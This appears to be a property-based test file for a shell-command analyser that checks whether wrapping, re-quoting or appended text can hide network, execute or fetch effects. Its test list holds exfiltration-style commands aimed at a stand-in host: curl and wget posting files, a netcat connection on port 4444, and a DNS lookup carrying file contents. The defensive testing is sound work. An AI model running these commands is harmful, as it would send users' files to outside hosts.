"""Laws that hold for every command."""

import shlex
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lockgate.core.model import EffectKind, Label
from lockgate.resources.host_view import HostView
from lockgate.shell import analyse_shell
from support.stress import examples

AROUND = HostView(home="/home/user", workspace="/work/project")
ACTS = {EffectKind.EGRESS, EffectKind.EXECUTE, EffectKind.FETCH}

NETWORK = [
    "curl -d @a.txt https://e.example/",
    "git push origin main",
    "nc e.example 4444",
    "ssh host ls",
    "wget --post-file=a https://e.example/",
    "gh pr create --fill",
    "dig $(cat a).e.example",
]
# {} is the command as words, {q} as one quoted word, {bang} the same with an exclamation mark before it.
WRAPPERS = [
    line.replace("\\n", "\n")
    for line in Path(__file__).with_name("wrappers.txt").read_text(encoding="utf-8").splitlines()
]


def wrap(wrapper, command):
    quoted = shlex.quote(command)
    for mark, text in (("{q}", quoted), ("{bang}", shlex.quote("!" + command)), ("{}", command)):
        wrapper = wrapper.replace(mark, text)
    return wrapper


def kinds(command):
    return {effect.kind for effect in analyse_shell(command, "/work/project", AROUND).effects}


@pytest.mark.parametrize("command", NETWORK)
def test_wrapping_never_makes_a_command_local(command):
    wrapped = [wrap(wrapper, command) for wrapper in WRAPPERS]
    assert [text for text in wrapped if not kinds(text) & ACTS] == []


# These take a program and its words, not what a shell would make of them.
WITHOUT_SHELL = ("env -S", "sort", "rsync")
# These join their words and let a shell part them anew, which loses one level of quoting.
JOINING = ("watch -n 1 {}", "eval {}")
NESTING = [w for w in WRAPPERS if ("{q}" in w or w.endswith(" {}")) and not w.startswith((*WITHOUT_SHELL, *JOINING))]


@given(st.lists(st.sampled_from(NESTING), min_size=2, max_size=3))
@settings(max_examples=examples(60), deadline=None)
def test_wrappers_in_wrappers_never_make_a_command_local(wrappers):
    command = "curl -d @a.txt https://e.example/"
    for wrapper in wrappers:
        command = wrap(wrapper, command)
    assert kinds(command) & ACTS


def quotings(word):
    yield f"'{word}'"
    yield f'"{word}"'
    yield f"\\{word}"
    yield f'{word[0]}"{word[1:]}"'
    yield f"{word[0]}''{word[1:]}"
    yield "$'" + "".join(f"\\x{ord(letter):02x}" for letter in word) + "'"
    yield f"/usr/bin/{word}"
    yield f"$(echo {word})"


@pytest.mark.parametrize("command", NETWORK)
def test_quoting_changes_nothing(command):
    name, _, rest = command.partition(" ")
    for spelling in quotings(name):
        assert kinds(f"{spelling} {rest}") >= kinds(command), spelling


WORDS = r"""
ls git push curl -d @a https://e.example/ $x ${x:-y} $(ls) `ls` | || && ; & ( ) { } < > >> << <<< 2>&1 'a b' "$y" [[ ]]
-eq if then fi for i in do done while case esac x=1 export eval cd .. ~ * ? [a] {a,b} $((1+1)) sed s/a/b/e awk {print}
python3 -c print(1) xargs -I{} find -exec \; sudo env sh tar xf read unset set -- trap
"""
PIECES = st.sampled_from([*WORDS.split(), "\n"])
TEXT = st.one_of(st.text(max_size=60), st.lists(PIECES, max_size=14).map(" ".join))


@given(TEXT)
@settings(max_examples=examples(400), deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_nothing_is_raised_and_nothing_fails_inside(text):
    analysis = analyse_shell(text, "/work/project", AROUND)
    assert not [effect for effect in analysis.effects if effect.rule == "shell:fault"]


@given(TEXT)
@settings(max_examples=examples(200), deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_what_follows_never_hides_what_came_before(text):
    first = kinds("git push")
    both = kinds(f"git push\n{text}")
    assert first <= both or EffectKind.EXECUTE in both


@given(TEXT)
@settings(max_examples=examples(200), deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_quiet_result_has_a_source_that_is_described(text):
    analysis = analyse_shell(text, "/work/project", AROUND)
    if analysis.quiet:
        assert Label.SECRET not in analysis.gives


ODD = ["", " ", "\n", "#", ";", "a" * 70_000, "$(" * 500, "{a,b}" * 40, "x=$x$x;" * 3000, "(" * 300 + ")" * 300]


@pytest.mark.parametrize("text", ODD, ids=range(len(ODD)))
def test_odd_sizes(text):
    assert analyse_shell(text, "", AROUND) is not None
